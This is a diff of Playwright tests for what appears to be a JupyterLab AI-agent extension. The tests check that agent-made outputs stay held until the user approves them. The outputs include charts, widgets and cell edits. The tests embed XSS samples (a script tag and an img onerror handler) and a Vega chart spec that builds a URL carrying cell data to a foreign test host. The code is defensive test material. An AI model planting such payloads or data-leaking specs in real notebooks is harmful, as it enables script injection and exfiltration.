@@ -1,3 +1,4 @@
+import type { ICodeCell, IDisplayData } from '@jupyterlab/nbformat';
 import type { NotebookPanel } from '@jupyterlab/notebook';
 import { Locator } from '@playwright/test';
 
@@ -58,6 +59,11 @@ const MINE =
 /** Whether a script of an output ran in the page. */
 const attacked = (tab: LabPage) =>
   tab.page.evaluate(() => 'attacked' in window);
+
+// The tab is kept, and the user of the first test shows what acts.
+test.beforeEach(({ tab }) =>
+  tab.page.evaluate(() => Reflect.deleteProperty(window, 'attacked'))
+);
 
 /** The trust that each code cell has in the page, and in what is saved. */
 const trust = (tab: LabPage) =>
@@ -199,6 +205,150 @@ display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/pl
   await expect
     .poll(heard)
     .toEqual(['mine', 'of mine', 'theirs', 'one', 'to mine']);
+});
+
+const vega = (spec: string) =>
+  `display({"application/vnd.vegalite.v5+json": ${spec}, "text/plain": "a chart"}, raw=True)\n`;
+
+const drawn = (notebook: NotebookPage, cell: number): Locator =>
+  notebook.cells.nth(cell).locator('.vega-embed canvas, .vega-embed svg');
+
+test('a chart of data is drawn at once, and loads nothing of another server, also by an address that it computes', async ({
+  tab,
+  model
+}) => {
+  const notebook = await openWork(tab, 'a = 1');
+  const own = `{"$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+  "data": {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 1}]}, "mark": "bar",
+  "encoding": {"x": {"field": "a"}, "y": {"field": "b"}}}`;
+  const elsewhere = `{"data": {"url": "${foreign.url}/data.json"}, "mark": "bar"}`;
+  const computed = `{"data": {"values": [{"a": 1}]},
+  "transform": [{"calculate": "'http:' + '/' + '/${foreign.host}/computed?d=' + datum.a", "as": "address"}],
+  "mark": {"type": "image", "width": 20, "height": 20},
+  "encoding": {"url": {"field": "address"}, "x": {"field": "a", "type": "quantitative"}}}`;
+  await model.script(
+    addCell(vega(own), { run: true }),
+    addCell(vega(elsewhere), { run: true }),
+    addCell(vega(computed), { run: true }),
+    { say: 'Done.' }
+  );
+  await tab.panel.ask('Draw');
+  await expect(drawn(notebook, 1).first()).toBeVisible();
+  await expect(held(notebook, 1)).toHaveCount(0);
+  await expect(held(notebook, 2)).toBeVisible();
+  await expect(drawn(notebook, 3).first()).toBeVisible();
+  // Vega loads pictures as it draws, and JupyterLab makes a picture of the chart after that.
+  await expect
+    .poll(async () => Object.keys(await dataOf(notebook, 3)))
+    .toContain('image/png');
+  expect(foreign.requests).toEqual([]);
+  await held(notebook, 2).getByTestId('da-held-show').click();
+  await expect
+    .poll(() => foreign.requests)
+    .toEqual(expect.arrayContaining(['GET /data.json', 'GET /computed?d=1']));
+});
+
+/** The data of a cell's first output. */
+async function dataOf(notebook: NotebookPage, cell: number): Promise<object> {
+  const { outputs } = (await notebook.content())[cell] as ICodeCell;
+  return (outputs[0] as IDisplayData).data;
+}
+
+const PLAIN =
+  '"_model_module": "@jupyter-widgets/controls", "_view_module": "@jupyter-widgets/controls"';
+
+test('a plain widget is there at once; one with HTML or code that acts waits, and those after it', async ({
+  tab,
+  model
+}) => {
+  const notebook = await openWork(tab, 'a = 1');
+  await notebook.kernelReady();
+  await tab.page.evaluate(() => {
+    const panel = window.jupyterapp.shell.currentWidget as NotebookPanel;
+    const { kernel } = panel.sessionContext.session!;
+    const heard: unknown[] = [];
+    const marks: unknown[] = [];
+    Object.assign(window, { heard, marks });
+    kernel!.registerCommTarget('jupyter.widget', (comm, msg) => {
+      heard.push((msg.content.data as { state: object }).state);
+      comm.onMsg = ({ content }) => void heard.push(content.data);
+      Object.assign(window, { used: () => comm.send({ used: true }) });
+    });
+    kernel!.iopubMessage.connect((_, msg) => {
+      if (msg.header.msg_type === 'display_data') {
+        marks.push((msg.content as IDisplayData).metadata);
+      }
+    });
+  });
+  const values = () =>
+    tab.page.evaluate(() =>
+      (window as unknown as { heard: { value: unknown }[] }).heard.map(
+        ({ value }) => value
+      )
+    );
+  await model.script(
+    addCell(
+      `from comm import create_comm
+from IPython.display import HTML
+s = create_comm("jupyter.widget", data={"state": {${PLAIN}, "value": 3}})
+s.on_msg(lambda _: display(HTML("<script>window.attacked = 1</script>")))
+display({"application/vnd.jupyter.widget-view+json": {"model_id": s.comm_id}, "text/plain": "IntSlider(value=3)"}, raw=True)`,
+      { run: true }
+    ),
+    { say: 'Done.' }
+  );
+  await tab.panel.ask('Go', 1);
+  await expect.poll(values).toEqual([3]);
+
+  // What it displays when the user uses it is the agent's.
+  await tab.page.evaluate(() =>
+    (window as unknown as { used: () => void }).used()
+  );
+  const marks = () =>
+    tab.page.evaluate(() => (window as unknown as { marks: object[] }).marks);
+  await expect
+    .poll(marks)
+    .toEqual(Array(2).fill({ datalayer_agent: { madeBy: 'agent' } }));
+
+  await model.script(
+    addCell(
+      `h = create_comm("jupyter.widget", data={"state": {${PLAIN}, "value": "<img src=x onerror='window.attacked = 1'>"}})
+e = create_comm("jupyter.widget", data={"state": {"_model_module": "anywidget", "_view_module": "anywidget", "value": "esm"}})
+t = create_comm("jupyter.widget", data={"state": {${PLAIN}, "value": "after"}})
+display({"application/vnd.jupyter.widget-view+json": {"model_id": h.comm_id}, "text/plain": "HTML(value='')"}, raw=True)`,
+      { run: true }
+    ),
+    { say: 'Done.' }
+  );
+  await tab.panel.ask('More', 2);
+  await expect(notebook.output(2)).toContainText("HTML(value='')");
+  expect(await values()).toEqual([3]);
+  expect(await attacked(tab)).toBe(false);
+  await held(notebook, 2).getByTestId('da-held-show').click();
+  await expect
+    .poll(values)
+    .toEqual([3, "<img src=x onerror='window.attacked = 1'>", 'esm', 'after']);
+});
+
+test('code of the agent writes no cell by its reply to the page', async ({
+  tab,
+  model
+}) => {
+  const notebook = await openWork(tab, 'a = 1');
+  const replaces =
+    'get_ipython().set_next_input("import os", replace=True)\nprint("ran")';
+  const adds = 'get_ipython().set_next_input("import sys")\nprint("ran")';
+  await model.script(
+    addCell(replaces, { run: true }),
+    addCell(adds, { run: true }),
+    { say: 'Done.' }
+  );
+  await tab.panel.ask('Go');
+  await expect(notebook.output(2)).toContainText('ran');
+  expect(await notebook.sources()).toEqual(['a = 1', replaces, adds]);
+  // What the user runs does as ever.
+  await notebook.run(1);
+  await expect.poll(() => notebook.sources()).toContain('import os');
 });
 
 /** Markdown that would send something by being shown. */
